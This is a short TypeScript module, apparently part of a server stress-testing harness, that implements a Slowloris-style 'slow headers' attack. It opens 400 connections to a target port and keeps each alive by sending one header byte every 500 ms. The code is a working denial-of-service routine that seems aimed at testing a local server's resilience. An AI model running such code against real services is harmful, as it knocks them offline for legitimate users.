// Headers that arrive a byte at a time (Slowloris): each connection looks as if it was about to send a request.
import { type Attack, OutcomeCounter, openSocket, repeatUntil, untilClosed } from '../attack.ts';

const CONNECTIONS = 400;
const BYTE_MS = 500;

export const slowHeaders: Attack = {
  name: 'slow headers',
  run: async (target, signal) => {
    const counter = new OutcomeCounter();
    const crawl = async (): Promise<void> => {
      const socket = openSocket(target.port, signal);
      socket.write('POST / HTTP/1.1\r\nhost: localhost\r\nx: ');
      const timer = setInterval(() => socket.write('y'), BYTE_MS);
      socket.resume();
      await untilClosed(socket);
      clearInterval(timer);
      counter.add('closed');
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, () => repeatUntil(signal, BYTE_MS, crawl)));
    return counter.outcomes;
  },
};
